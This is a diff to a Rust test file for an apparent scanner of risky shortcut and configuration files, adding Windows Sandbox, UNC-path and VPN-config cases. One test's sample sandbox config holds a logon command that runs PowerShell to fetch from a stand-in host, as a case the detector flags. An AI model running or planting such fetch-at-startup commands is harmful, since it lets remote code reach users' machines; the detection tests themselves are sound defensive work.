@@ -62,6 +62,7 @@ pub const SPECIMENS: &[Specimen] = &[
     }),
     ("job", || job("notepad.exe")),
     ("diagcfg", || xml(DIAGNOSIS, "<Execution><Package Path=\"C:\\Windows\\diagnostics\\\"/></Execution>")),
+    ("wsb", || xml("Configuration", "<LogonCommand><Command>notepad.exe</Command></LogonCommand>")),
     ("editor-tasks", || editor("npm run build").bytes),
 ];
 
@@ -238,7 +239,15 @@ fn a_link_to_a_file_of_another_computer_is_dangerous_in_every_spelling() {
     {
         assert!(fires(place), "{place}");
     }
-    for place in ["file:///C:/a/b.html", "file:///home/a/b.html", "file://C:/a/b.html", "https://x.invalid/"] {
+    assert!(fires("file://localhost.invalid/a"));
+    for place in [
+        "\\\\127.0.0.1\\a",
+        "file://localhost/a",
+        "file:///C:/a/b.html",
+        "file:///home/a/b.html",
+        "file://C:/a/b.html",
+        "https://x.invalid/",
+    ] {
         assert!(!fires(place), "{place}");
     }
 }
@@ -449,4 +458,19 @@ fn places_in_wide_text_are_told_in_bytes() {
     let finding = report.findings.iter().find(|f| f.rule.id == "shortcuts.autostart").unwrap();
     let text = "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n";
     assert_eq!(finding.span.unwrap().offset, 2 + 2 * text.len() as u64);
+}
+
+#[test]
+fn a_sandbox_that_fetches_something_at_its_start_is_dangerous() {
+    let sandbox = |command: &str| {
+        case("a.wsb", xml("Configuration", &format!("<LogonCommand><Command>{command}</Command></LogonCommand>")))
+    };
+    assert!(fires(&sandbox("powershell.exe -c &quot;iwr https://x.invalid/a&quot;"), "shortcuts.runs-command"));
+    assert!(!fires(&sandbox("notepad.exe"), "shortcuts.runs-command"));
+}
+
+#[test]
+fn a_tunnel_may_be_named_as_settings_are() {
+    let report = case("client.conf", "client\ndev tun\nremote vpn.invalid 1194\nca ca.crt\n").examine();
+    assert_eq!(fired(&report), ["nature.shortcut"]);
 }
